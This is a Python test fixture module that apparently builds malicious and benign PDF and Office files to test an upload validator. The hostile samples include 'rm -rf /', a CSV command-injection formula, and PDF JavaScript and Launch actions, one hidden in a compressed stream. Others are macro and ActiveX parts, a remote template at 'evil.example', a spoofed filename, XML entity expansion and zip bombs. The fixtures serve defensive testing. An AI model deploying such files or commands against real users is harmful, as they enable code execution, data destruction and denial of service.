"""Files that no form takes, made here byte by byte, and good ones for comparison."""

import io
import zipfile
import zlib

from pypdf import PdfWriter

from sample.pdf import make_pdf

PDF = make_pdf("en", "Title", ["Text"])
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = b'<Relationships><Relationship Id="r1" Type="http://x/%s" Target="%s"%s/></Relationships>'
OUTSIDE = b' TargetMode="External"'
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML, SVG = b"<!doctype html><script>alert(1)</script>", b"<svg onload='alert(1)'/>"
LAUGHS = b"<!DOCTYPE a [<!ENTITY b 'lol'><!ENTITY c '&b;&b;'>]><a>&c;</a>"
EXE, ELF = b"MZ\x90\0" + bytes(600), b"\x7fELF\2\1\1" + bytes(600)


def packed(parts, comment=b""):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        archive.comment = comment
    return output.getvalue()


def office(ending="docx", extra=None, **replaced):
    """A small Office file with these further parts."""
    parts = {"[Content_Types].xml": TYPES, MAIN[ending]: b"<document>Words</document>"}
    return packed(parts | (extra or {}), **replaced)


def linked(kind, target, mode=OUTSIDE):
    return office(extra={"word/_rels/document.xml.rels": RELS % (kind, target, mode)})


def pdf(*objects, tail=b""):
    """A PDF whose catalogue is the first object, with one page."""
    data, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        len(data),
    )
    return data + table + end + tail


def acting(entry, *objects):
    """A PDF of one page whose catalogue holds that entry."""
    catalogue = b"<</Type/Catalog/Pages 2 0 R%s>>" % entry
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return pdf(catalogue, pages, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", *objects)


def written(change):
    writer = PdfWriter(clone_from=io.BytesIO(PDF))
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def hidden_in_a_stream():
    """An action in an object that is packed with others, as PDF writes since version 1.5."""
    action = b"<</S/JavaScript/JS(app.alert(1))>>"
    inner = b"4 0 " + action
    packed_objects = zlib.compress(inner)
    data, places = b"%PDF-1.5\n", {}
    bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(packed_objects), packed_objects),
    }
    for number, text in bodies.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    rows = [(0, 0, 255), *((1, places[n], 0) for n in [1, 2, 3]), (2, 5, 0), (1, places[5], 0)]
    rows.append((1, len(data), 0))
    table = zlib.compress(
        b"".join(bytes([t]) + p.to_bytes(2, "big") + bytes([g]) for t, p, g in rows)
    )
    head = b"<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(table)
    start = len(data)
    data += b"6 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (head, table)
    return data + b"startxref\n%d\n%%%%EOF\n" % start


BAD = {
    # Other types, whatever they are called.
    "page.html": HTML, "page.htm": HTML, "page.xhtml": HTML, "drawing.svg": SVG,
    "data.xml": b"<?xml version='1.0'?><a/>", "words.txt": b"words", "letter.rtf": rb"{\rtf1 x}",
    "old.doc": b"\xd0\xcf\x11\xe0" + bytes(600), "table.csv": b"=cmd|'/c calc'!A0",
    "open.odt": packed({"mimetype": b"application/vnd.oasis.opendocument.text"}),
    "many.zip": office(), "macros.docm": office(), "program.exe": EXE, "run.sh": b"#!/bin/sh\n",
    "page.php": b"<?php ?>", "noending": PDF, "picture.png": b"\x89PNG\r\n\x1a\n",
    # Names that say one thing and content that is another.
    "page.pdf": HTML, "drawing.pdf": SVG, "laughs.pdf": LAUGHS, "windows.pdf": EXE,
    "linux.pdf": ELF, "shell.pdf": b"#!/bin/sh\nrm -rf /\n", "docx.pdf": office(),
    "spaces.pdf": b"\n\n" + PDF, "page.docx": HTML, "laughs.docx": LAUGHS, "windows.docx": EXE,
    "pdf.docx": PDF, "sheet.docx": office("xlsx"), "letter.xlsx": office(), "slides.pptx": office(),
    "letter.pdf.exe": PDF, "letter.pdf.html": HTML, "letter.html.pdf": HTML,
    "letter.pdf\u202excod.exe": PDF, "eicar.txt": EICAR,
    # Two things at once.
    "pdf-zip.pdf": PDF + packed({"a.class": b"\xca\xfe\xba\xbe"}), "pdf-html.pdf": PDF + HTML * 3,
    "zip-html.docx": office(comment=HTML * 3), "exe-zip.docx": EXE + office(),
    # Files that act.
    "script.pdf": acting(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "numbered.pdf": acting(b"/OpenAction<</S/J#61vaScr#69pt/JS(app.alert(1))>>"),
    "later.pdf": acting(b"/AA<</WC<</S/JavaScript/JS(x)>>>>"),
    "names.pdf": acting(
        b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>", b"<</S/JavaScript/JS(x)>>"
    ),
    "packed.pdf": hidden_in_a_stream(),
    "launch.pdf": acting(b"/OpenAction<</S/Launch/F(calc.exe)>>"),
    "import.pdf": acting(b"/OpenAction<</S/ImportData/F(x.fdf)>>"),
    "film.pdf": acting(b"/AF<</Subtype/RichMedia>>"),
    "holding.pdf": written(lambda writer: writer.add_attachment("calc.exe", EXE)),
    "form.pdf": acting(b"/AcroForm<</XFA 4 0 R>>", b"<</Length 0>>stream\n\nendstream"),
    "macro.docx": office(extra={"word/vbaProject.bin": b"x"}),
    "macro.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"}),
    "sheets.xlsx": office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}),
    "renamed.docx": office(extra={"[Content_Types].xml": TYPES.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml")}),
    "activex.docx": office(extra={"word/activeX/activeX1.xml": b"<x/>"}),
    "holding.docx": office(extra={"word/embeddings/calc.exe": EXE}),
    "nested.docx": office(extra={"word/embeddings/bomb.zip": packed({"a": bytes(9_999)})}),
    "template.docx": linked(b"attachedTemplate", b"https://evil.example/x.dotm"),
    "object.docx": linked(b"oleObject", b"file://evil/x"),
    "entities.docx": office(extra={"word/document.xml": LAUGHS}),
    # Damaged, locked, or far larger than they look.
    "empty.pdf": b"", "head.pdf": b"%PDF-1.7\n", "cut.pdf": PDF[:-300], "cut.docx": office()[:-30],
    "locked.pdf": written(lambda writer: writer.encrypt("secret")),
    "bomb.docx": office(extra={f"word/b{n}.bin": bytes(11_000_000) for n in range(20)}),
    "parts.docx": office(extra={f"word/p{n}.xml": b"" for n in range(6_000)}),
}  # fmt: skip

GOOD = {
    "plain.pdf": PDF,
    "CAPITALS.PDF": PDF,
    "two.endings.pdf": PDF,
    "отчёт 報告 تقرير.pdf": make_pdf("ar", "تقرير", ["نص"]),
    "linked.pdf": acting(b"/OpenAction[3 0 R/Fit]"),
    "letter.docx": office(),
    "table.xlsx": office("xlsx"),
    "slides.pptx": office("pptx"),
    "pictures.docx": office(extra={"word/media/image1.png": b"\x89PNG\r\n\x1a\n"}),
    "web.docx": linked(b"hyperlink", b"https://www.wcoomd.org/"),
    "chart.docx": office(extra={"word/embeddings/sheet.xlsx": office("xlsx")}),
}
